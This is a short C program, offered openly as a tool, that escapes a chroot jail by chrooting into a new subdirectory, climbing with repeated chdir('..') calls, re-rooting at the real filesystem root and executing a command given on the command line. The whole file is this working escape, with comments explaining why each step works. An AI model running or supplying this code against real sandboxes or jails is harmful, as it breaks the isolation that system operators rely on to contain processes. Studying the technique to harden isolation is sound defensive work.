/* Leaves a chroot, and runs a command outside of it. Works for any process with CAP_SYS_CHROOT. */
#include <stdio.h>
#include <sys/stat.h>
#include <unistd.h>

int main(int argc, char **argv)
{
    mkdir("below", 0700);
    if (chroot("below")) {        /* the root moves down, the working directory stays above it */
        perror("chroot");
        return 1;
    }
    for (int i = 0; i < 100; i++) /* `..` stops at the root only for those who are below it */
        if (chdir(".."))
            break;
    if (chroot("."))              /* the real root, or as far up as there is anything */
        return 1;
    execvp(argv[1], argv + 1);
    perror(argv[1]);
    return argc;
}
